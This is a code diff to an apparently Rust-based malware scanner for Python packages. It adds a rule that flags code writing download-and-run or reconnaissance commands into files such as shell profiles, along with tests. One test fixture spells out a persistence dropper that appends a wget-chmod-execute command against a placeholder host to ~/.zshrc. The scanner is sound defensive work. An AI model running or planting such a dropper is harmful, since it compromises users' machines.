@@ -62,11 +62,46 @@ fn executable_mode(checker: &Checker, expr: &Expr) -> bool {
     }
 }
 
+/// Text written to a file that is itself a download-and-run or recon command: a dropper
+/// planting its next stage in a shell profile, a batch file or a scheduled script.
+fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
+    let Some(arg) = call.arguments.args.first() else {
+        return;
+    };
+    let Some(text) = super::partial_command_text(checker, arg) else {
+        return;
+    };
+    if !(super::process_spawn::is_dangerous_command(&text)
+        || super::process_spawn::is_recon_exfiltration(&text))
+    {
+        return;
+    }
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.85,
+        ExecContext::Runtime => 0.6,
+        ExecContext::TestOrDocs => 0.15,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "writes the command `{}` into a file {}",
+            crate::text::shorten(&text, 120),
+            context.phrase()
+        ),
+        severity,
+        vec!["drop-command"],
+    );
+}
+
 /// chmod +x and writes to autostart paths.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let args = &call.arguments.args;
     let context = checker.context();
     let early = matches!(context, ExecContext::Install | ExecContext::Import);
+    if qualname.ends_with(".write") || qualname.ends_with(".write_text") {
+        check_written_command(checker, call, context);
+    }
     if matches!(qualname, "os.chmod" | "pathlib.Path().chmod") || qualname.ends_with(".chmod") {
         let Some(mode) = args
             .get(1)
@@ -167,5 +202,18 @@ mod tests {
             max_severity("p/pkg/m.py", "open('out.txt', 'w')\n", "WH150"),
             0.0
         );
+    }
+}
+
+#[cfg(test)]
+mod written_command_tests {
+    use crate::rules::testing::max_severity;
+
+    #[test]
+    fn dropper_commands_written_to_files_are_reported() {
+        let code = "import os\ndef persist():\n    with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n        f.write('wget https://x.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH150") >= 0.6);
+        let code = "def save(f):\n    f.write('hello world')\n";
+        assert_eq!(max_severity("p/pkg/m.py", code, "WH150"), 0.0);
     }
 }
